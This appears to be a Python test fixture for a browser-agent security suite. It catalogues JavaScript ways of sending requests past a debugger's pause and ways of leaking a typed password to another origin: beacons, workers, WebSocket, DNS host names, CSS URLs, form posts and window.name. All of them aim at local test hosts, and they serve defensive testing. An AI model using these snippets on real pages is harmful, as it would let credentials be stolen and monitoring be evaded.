"""Ways of sending that a debugger's pause doesn't reach by itself, and ways in which a filled secret could leave."""

from __future__ import annotations

import re

from tests.faults.attack.sends import HABITS, QUERIES, Kind

_FRAME = "const f = document.createElement('iframe'); {}; document.body.append(f)"
_LINK = "document.head.append(Object.assign(document.createElement('link'), {{rel: '{}', href: `{}`{}}}))"
_ELEMENT = "document.body.append(Object.assign(document.createElement('{}'), {{{}: '/c/{}'}}))"


def _srcdoc(script: str, sandbox: str = "f.sandbox = 'allow-scripts'; ") -> str:
    """A frame whose own script sends at once."""
    quoted = script.replace("'", "\\x22")
    return _FRAME.format(f"{sandbox}f.srcdoc = `<script>{quoted}</${{``}}script>`")


_POST = "{method: 'POST', mode: 'no-cors', body: 'x'}"
_SENDING = {
    "link prefetch": _LINK.format("prefetch", "/c/zeta-c3/delete", ""),
    "sandboxed new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c4', {_POST})"),
    "beacon of a sandboxed new frame": _srcdoc("navigator.sendBeacon('${location.origin}/c/zeta-c5')"),
    "XSLT": _FRAME.format("f.src = '/c/xslt'"),
    "JSON module": "import('/c/zeta-c7/delete', {with: {type: 'json'}}).catch(() => 0)",
    "humps in a new window": "window.open('/c/zeta-c8/deleteItem')",
    "encoded letters in a new window": "window.open('/c/zeta-c9/de%6Cete')",
    "new frame": _srcdoc(f"fetch('${{location.origin}}/c/zeta-c10', {_POST})", ""),
    "link preload": _LINK.format("preload", "/c/zeta-c11/delete", ", as: 'fetch'"),
    "style module": "import('/c/zeta-c14/delete', {with: {type: 'css'}}).catch(() => 0)",
    "style sheet": _LINK.format("stylesheet", "/c/zeta-c15/delete", ""),
    "video": _ELEMENT.format("video", "src", "zeta-c16/delete"),
    "object": _ELEMENT.format("object", "data", "zeta-c17/delete"),
    "frame": _ELEMENT.format("iframe", "src", "zeta-c18/delete"),
    "event source": "new EventSource('/c/zeta-c19/delete')",
    "font": "new FontFace('x', `url(/c/zeta-c20/delete)`).load().catch(() => 0)",
    "link ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '/c/zeta-c21'; "
    "document.body.append(a); a.click()",
    "image with encoded letters": "new Image().src = '/c/zeta-c23/de%6Cete'",
    "image with humps": "new Image().src = '/c/zeta-c24/itemDelete'",
    "image in capitals": "new Image().src = '/c/zeta-c25/DELETE'",
    "capitals in a new window": "window.open('/c/zeta-c26/DELETE')",
}


def _mark(script: str) -> str:
    found = re.search(r"zeta-c\d+", script)
    return found[0] if found else "zeta-c6"


CHANNELS = Kind(
    # An agent follows a new window: those come last.
    {
        name: (script, _mark(script))
        for name, script in sorted(_SENDING.items(), key=lambda one: one[1].startswith("window.open("))
    },
    own="navigator.serviceWorker?.register('/sw.js');",
)

_V = "document.getElementById('p').value"
_LEAKING = {
    "header": "fetch(`http://{}/`, {{headers: {{'X-A': {v}}}}}).catch(() => 0)",
    "authorization": "fetch(`http://{}/`, {{headers: {{Authorization: 'Basic ' + btoa('me:' + {v})}}}}).catch(() => 0)",
    "address, encoded twice": "new Image().src = `http://{}/` + encodeURIComponent(encodeURIComponent({v}))",
    "body, escaped": "fetch(`http://{}/`, {{method: 'POST', mode: 'no-cors', "
    "body: [...{v}].map(c => '\\\\u00' + c.charCodeAt().toString(16)).join('')}})",
    "upper case": "fetch(`http://{}/` + {v}.toUpperCase(), {{mode: 'no-cors'}})",
    "Referer": "history.replaceState(0, '', '/sends?' + {v}); new Image().src = `http://{}/pixel`",
    "link prefetch": "document.head.append(Object.assign(document.createElement('link'), "
    "{{rel: 'prefetch', href: `http://{}/` + btoa({v})}}))",
    "WebSocket": "new WebSocket(`ws://{}/` + {v})",
    "host name": "fetch(`http://${{{v}.replace(/[^a-z0-9]/g, '')}}.{}/`, {{mode: 'no-cors'}}).catch(() => 0)",
    "foreign frame": "const f = document.createElement('iframe'); f.src = `http://{}/far`; document.body.append(f)",
    "style": "document.body.style.background = `url(http://{}/?${{btoa({v})}})`",
    "beacon": "navigator.sendBeacon(`http://{}/`, btoa({v}))",
    "worker": "new Worker(window.URL.createObjectURL(new Blob(["
    "`fetch('http://{}/?${{btoa({v})}}', {{mode: 'no-cors'}})`])))",
    "shared worker": "new SharedWorker('/tell.js?' + encodeURIComponent(`http://{}/?` + btoa({v})))",
    "new window": "window.open(`http://{}/?` + btoa({v}))",
    "form into a new window": "const g = document.createElement('form'); g.target = '_blank'; g.method = 'post'; "
    "g.action = `http://{}/`; document.body.append(g); g.submit()",
    "leaving": "window.name = {v}; location.href = `http://{}/far`",
}  # fmt: skip


def _leak(script: str, at: int) -> tuple[str, str]:
    filled = script.replace("{v}", _V).replace("{}", f"s{at}.localhost:{{port}}")
    return filled.replace("{{", "{").replace("}}", "}"), f"s{at}.localhost:"


SECRETS = Kind(
    {name: _leak(script, at) for at, (name, script) in enumerate(_LEAKING.items(), 1)},
    html="<input type=password id=p aria-label=Password>",
    secret="attackedbank",
)
KINDS = {
    "A write that says it queries": QUERIES,
    "An operation that resembles the page's habit": HABITS,
    "Past the debugger": CHANNELS,
    "A filled secret to another origin": SECRETS,
}
